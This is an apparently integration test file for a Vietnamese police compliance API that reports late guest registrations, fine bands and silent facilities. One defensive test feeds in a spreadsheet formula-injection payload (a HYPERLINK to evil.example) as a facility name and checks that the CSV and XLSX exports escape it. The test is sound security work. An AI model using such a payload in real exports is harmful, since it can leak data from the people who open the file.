"""Reporting compliance: per facility and day, fine bands, silent facilities."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from luutru_analytics.core.labels import duration
from tests.integration.analytics_helpers import (
    VN,
    Feeder,
    check_in,
    facility,
    unique_commune,
    unique_day,
)
from tests.support import bearer


async def test_fine_bands_of_decree_282_at_their_edges(app, signer, group_prefix):
    """The bands the endpoints give (the SQL generated from compliance.bands.FINE_BANDS) at
    every edge: 0 late → none, 1 and 3 → 1-3, 4 and 8 → 4-8, 9 → 9+."""
    feeder = Feeder(app.state.session_factory, app.state.settings, f"{group_prefix}edges")
    c, d = unique_commune(), unique_day()
    late = {"L0": 0, "L1": 1, "L3": 3, "L4": 4, "L8": 8, "L9": 9}
    sites = {name: facility(commune=c, name=name) for name in late}
    await feeder.send(
        *sites.values(),
        *[check_in(sites[name], d, late_minutes=5) for name, n in late.items() for _ in range(n)],
        check_in(sites["L0"], d),  # on time
    )
    officer = bearer(signer.token(role="police_officer", communes=[c]))
    params = {"date_from": d.isoformat(), "date_to": d.isoformat()}
    body = (
        await app.state.client.get("/v1/compliance/daily", params=params, headers=officer)
    ).json()
    assert {r["facility_name"]: r["fine_band"] for r in body["rows"]} == {
        "L0": None,
        "L1": "1-3",
        "L3": "1-3",
        "L4": "4-8",
        "L8": "4-8",
        "L9": "9+",
    }
    bands = (
        await app.state.client.get("/v1/compliance/fine-bands", params=params, headers=officer)
    ).json()
    assert bands["rows"] == [
        {"fine_band": "1-3", "facility_days": 2, "persons": 4},
        {"fine_band": "4-8", "facility_days": 2, "persons": 12},
        {"fine_band": "9+", "facility_days": 1, "persons": 9},
    ]


async def test_daily_compliance_and_fine_bands(app, signer, feeder):
    c, d = unique_commune(), unique_day()
    a = facility(commune=c, name="A")
    b = facility(commune=c, name="B")
    await feeder.send(
        a,
        b,
        # A on d: 2 on time, 2 late (30 and 90 minutes) → 4 reported, 2 late → band 1-3.
        *[check_in(a, d) for _ in range(2)],
        check_in(a, d, late_minutes=30),
        check_in(a, d, late_minutes=90),
        # B on d: 9 late by 10 minutes each → band 9+; B on d+1: 5 late by 1 → band 4-8.
        *[check_in(b, d, late_minutes=10) for _ in range(9)],
        *[check_in(b, d + timedelta(days=1), late_minutes=1) for _ in range(5)],
    )
    officer = bearer(signer.token(role="police_officer", communes=[c]))
    params = {"date_from": d.isoformat(), "date_to": (d + timedelta(days=1)).isoformat()}
    body = (
        await app.state.client.get("/v1/compliance/daily", params=params, headers=officer)
    ).json()
    rows = [
        (
            r["day"],
            r["facility_name"],
            r["guests_reported"],
            r["late_reports"],
            r["minutes_late_total"],
            r["minutes_late_max"],
            r["fine_band"],
        )
        for r in body["rows"]
    ]
    d0, d1 = d.isoformat(), (d + timedelta(days=1)).isoformat()
    assert sorted(rows) == sorted(
        [
            (d0, "A", 4, 2, 120, 90, "1-3"),  # 30 + 90 = 120 minutes
            (d0, "B", 9, 9, 90, 10, "9+"),  # 9 × 10 = 90 minutes
            (d1, "B", 5, 5, 5, 1, "4-8"),  # 5 × 1 = 5 minutes
        ]
    )
    bands = (
        await app.state.client.get("/v1/compliance/fine-bands", params=params, headers=officer)
    ).json()
    assert bands["rows"] == [
        {"fine_band": "1-3", "facility_days": 1, "persons": 2},
        {"fine_band": "4-8", "facility_days": 1, "persons": 5},
        {"fine_band": "9+", "facility_days": 1, "persons": 9},
    ]


async def test_compliance_filters_apply_within_the_officers_communes(app, signer, feeder):
    c1, c2, d = unique_commune(), unique_commune(), unique_day()
    hotel = facility(commune=c1, name="H", star_rating=3)
    motel = facility(commune=c1, name="M", facility_type="motel")
    elsewhere = facility(commune=c2, name="E")
    await feeder.send(
        hotel,
        motel,
        elsewhere,
        check_in(hotel, d, late_minutes=5),
        check_in(motel, d, late_minutes=5),
        check_in(elsewhere, d, late_minutes=5),
    )
    admin = bearer(signer.token(role="police_admin"))
    base = {"date_from": d.isoformat(), "date_to": d.isoformat()}

    async def names(headers, **filters):
        response = await app.state.client.get(
            "/v1/compliance/daily", params={**base, **filters}, headers=headers
        )
        assert response.status_code == 200, response.text
        return sorted(r["facility_name"] for r in response.json()["rows"])

    assert await names(admin, commune=[c1, c2]) == ["E", "H", "M"]
    assert await names(admin, commune=[c1], facility_type=["motel"]) == ["M"]
    assert await names(admin, commune=[c1, c2], star_rating=[3]) == ["H"]
    officer = bearer(signer.token(role="police_officer", communes=[c1]))
    assert await names(officer) == ["H", "M"]
    assert await names(officer, commune=[c2]) == []  # not theirs: nothing, not everything
    bands = await app.state.client.get(
        "/v1/compliance/fine-bands",
        params={**base, "commune": [c1, c2], "facility_type": "hotel"},
        headers=admin,
    )
    # H and E are hotels (one late guest each), M is not.
    assert [(r["facility_days"], r["persons"]) for r in bands.json()["rows"]] == [
        (2, 2),
        (0, 0),
        (0, 0),
    ]


async def test_silent_facilities(app, signer, feeder):
    c = unique_commune()
    recent = facility(commune=c, name="Gửi hôm qua")
    old = facility(commune=c, name="Gửi 10 ngày trước")
    never = facility(commune=c, name="Chưa gửi")
    closed = facility(commune=c, name="Đã đóng", status="closed")
    coach = facility(commune=c, facility_type="coach", name="Nhà xe")
    today = datetime.now(VN).date()
    await feeder.send(
        recent,
        old,
        never,
        closed,
        coach,
        check_in(recent, today - timedelta(days=1)),
        check_in(old, today - timedelta(days=10)),
    )
    officer = bearer(signer.token(role="police_officer", communes=[c]))
    body = (
        await app.state.client.get(
            "/v1/compliance/silent-facilities", params={"days": 3}, headers=officer
        )
    ).json()
    # Closed facilities and coach operators (they report trips) are not listed.
    assert [r["facility_name"] for r in body["rows"]] == ["Chưa gửi", "Gửi 10 ngày trước"]
    assert body["rows"][1]["silent_days"] in (9, 10)
    assert datetime.fromisoformat(body["rows"][1]["last_report_at"]) < datetime.now(UTC)


async def test_lateness_in_the_export_is_in_days_and_hours(app, signer, feeder):
    c, d = unique_commune(), unique_day()
    a = facility(commune=c, name="Nhà nghỉ Trễ")
    # 2 days 1 hour (2,940 min) and 3 hours 20 minutes (200 min): 3,140 min in all.
    await feeder.send(
        a, check_in(a, d, late_minutes=2940), check_in(a, d, late_minutes=200), check_in(a, d)
    )
    officer = bearer(signer.token(role="police_officer", communes=[c]))
    params = {"date_from": d.isoformat(), "date_to": d.isoformat(), "format": "csv"}
    vi = await app.state.client.get(
        "/v1/compliance/daily", params={**params, "lang": "vi"}, headers=officer
    )
    (head, row) = list(csv.reader(io.StringIO(vi.text.lstrip("\ufeff"))))
    assert head == [
        "Ngày",
        "Mã cơ sở",
        "Cơ sở",
        "Khách đã khai báo",
        "Khai báo trễ hạn",
        "Tổng thời gian trễ",
        "Trễ lâu nhất",
        "Khung phạt (NĐ 282/2025)",
    ]
    assert row[0] == d.strftime("%d/%m/%Y")
    assert row[2:] == ["Nhà nghỉ Trễ", "3", "2", "2 ngày 4 giờ", "2 ngày 1 giờ", "1–3 người"]
    en = await app.state.client.get(
        "/v1/compliance/daily", params={**params, "lang": "en"}, headers=officer
    )
    (head, row) = list(csv.reader(io.StringIO(en.text.lstrip("\ufeff"))))
    assert head[5:] == ["Total lateness", "Longest lateness", "Fine band (Decree 282/2025)"]
    assert row[5:] == ["2 days 4 hours", "2 days 1 hour", "1–3 persons"]


def test_durations_as_people_say_them():
    assert [duration(m, "vi") for m in (0, 45, 60, 200, 1440, 2940, 174408)] == [
        "0",
        "45 phút",
        "1 giờ",
        "3 giờ 20 phút",
        "1 ngày",
        "2 ngày 1 giờ",
        "121 ngày 2 giờ",
    ]
    assert [duration(m, "en") for m in (1, 61, 1500)] == [
        "1 minute",
        "1 hour 1 minute",
        "1 day 1 hour",
    ]


async def test_a_hostile_facility_name_is_text_in_every_export(app, signer, group_prefix):
    """The finding: this name came out as a live formula in the XLSX and raw in the CSV."""
    import zipfile

    feeder = Feeder(app.state.session_factory, app.state.settings, f"{group_prefix}hostile")
    c = unique_commune()
    hostile = '=HYPERLINK("http://evil.example/leak","x")'
    await feeder.send(facility(commune=c, name=hostile), facility(commune=c, name=" \n=1+1"))
    officer = bearer(signer.token(role="police_officer", communes=[c]))
    for lang in (None, "vi"):
        params = {"days": 3, "format": "csv"} | ({"lang": lang} if lang else {})
        got = await app.state.client.get(
            "/v1/compliance/silent-facilities", params=params, headers=officer
        )
        rows = csv.reader(io.StringIO(got.text.lstrip("\ufeff")))
        names = {cell for row in rows for cell in row}
        assert {"'" + hostile, "' \n=1+1"} <= names, names
        xlsx = await app.state.client.get(
            "/v1/compliance/silent-facilities", params={**params, "format": "xlsx"}, headers=officer
        )
        with zipfile.ZipFile(io.BytesIO(xlsx.content)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml")
            strings = archive.read("xl/sharedStrings.xml").decode()
        assert b"<f>" not in sheet
        assert "&apos;=HYPERLINK" in strings or "'=HYPERLINK" in strings
